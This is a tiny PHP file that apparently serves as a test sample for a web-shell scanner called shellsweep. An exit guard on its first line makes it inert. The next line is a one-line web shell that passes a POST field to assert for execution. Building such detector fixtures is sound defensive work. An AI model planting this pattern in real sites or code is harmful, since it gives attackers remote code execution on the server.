<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
call_user_func_array(assert, array($_POST['x']));
